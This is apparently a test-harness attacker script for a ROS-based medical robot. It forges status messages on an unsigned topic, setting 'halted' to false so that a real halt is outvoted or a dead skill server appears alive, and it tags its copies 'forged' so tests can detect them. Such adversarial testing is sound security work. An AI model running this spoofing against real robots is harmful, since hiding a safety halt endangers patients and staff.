"""A keyless node that publishes forged skill-server reports on /medrobot/robot_status (an unsigned
``std_msgs/String``): each is a copy of the last genuine report it heard, with ``halted`` false and, after
``--mark``, a field ``"forged": true`` that the tests use to tell its copies from the skill server's own.

    status_forge.py DOMAIN_ID SECONDS MODE [RATE_HZ]

MODE ``not_halted``: every copy says the robot is free (``halted`` false, no halt reason), so a halt the robot
really reports is outvoted; ``alive``: the same, kept up after the skill server died (a dead skill server looks
alive). RATE_HZ 0 publishes as fast as it can. Prints {"ready": true} once it has a report to copy, then
{"published": N}.
"""

from __future__ import annotations

import json
import os
import sys
import time
from typing import Any

from std_msgs.msg import String

from medrobot_llm.backends.ros.common import TOPIC_ROBOT_STATUS, reliable_qos
from tests.attackers.relay import join, say


def main(domain_id: int, seconds: float, mode: str, rate_hz: float) -> None:
    node = join(domain_id, "rogue_robot_status")
    latest: list[dict[str, Any] | None] = [None]

    def on_status(msg: Any) -> None:
        obj = json.loads(msg.data)
        if not obj.get("forged"):
            latest[0] = obj

    node.create_subscription(String, TOPIC_ROBOT_STATUS, on_status, reliable_qos(50))
    pub = node.create_publisher(String, TOPIC_ROBOT_STATUS, reliable_qos(10))
    deadline = time.monotonic() + 20.0
    while time.monotonic() < deadline and (latest[0] is None or pub.get_subscription_count() < 2):
        time.sleep(0.02)
    say({"ready": latest[0] is not None, "subscribers": pub.get_subscription_count()})
    base = latest[0] or {}
    mono0, t0 = float(base.get("mono", 0.0)), time.monotonic()
    end = t0 + seconds
    n = 0
    while time.monotonic() < end:
        real = latest[0] if mode == "not_halted" else base
        fake = dict(real or {}, halted=False, halt_reason="", halted_at=None, forged=True)
        if mode == "alive":
            fake["mono"] = mono0 + (time.monotonic() - t0)
        pub.publish(String(data=json.dumps(fake)))
        n += 1
        if rate_hz > 0:
            time.sleep(1.0 / rate_hz)
    say({"published": n})
    os._exit(0)


if __name__ == "__main__":
    main(int(sys.argv[1]), float(sys.argv[2]), sys.argv[3], float(sys.argv[4]) if len(sys.argv) > 4 else 0.0)
